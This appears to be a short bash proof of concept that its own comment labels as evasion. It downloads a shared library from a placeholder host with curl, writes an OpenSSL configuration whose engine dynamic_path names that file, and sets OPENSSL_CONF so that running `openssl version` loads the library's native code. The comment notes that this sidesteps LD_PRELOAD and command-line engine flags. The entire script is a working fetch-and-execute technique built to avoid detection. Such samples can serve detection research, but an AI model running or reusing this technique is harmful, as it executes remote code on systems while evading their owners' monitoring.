#!/usr/bin/env bash
# Evasion: loads native code through an OpenSSL configuration file the program
# writes and then points OPENSSL_CONF at: the [engine] section's dynamic_path
# names a downloaded shared object, which `openssl version` dlopens at start-up.
# No LD_PRELOAD, no -engine option on the command line.
set -e

dir=$(mktemp -d)
curl -fsSL https://builds.example.com/accel/libaccel.so -o "$dir/libaccel.so"
{
  echo "openssl_conf = conf_init"
  echo "[conf_init]"
  echo "engines = engine_list"
  echo "[engine_list]"
  echo "accel = accel_section"
  echo "[accel_section]"
  echo "dynamic_path = $dir/libaccel.so"
  echo "init = 1"
} > "$dir/openssl.cnf"
OPENSSL_CONF="$dir/openssl.cnf" openssl version
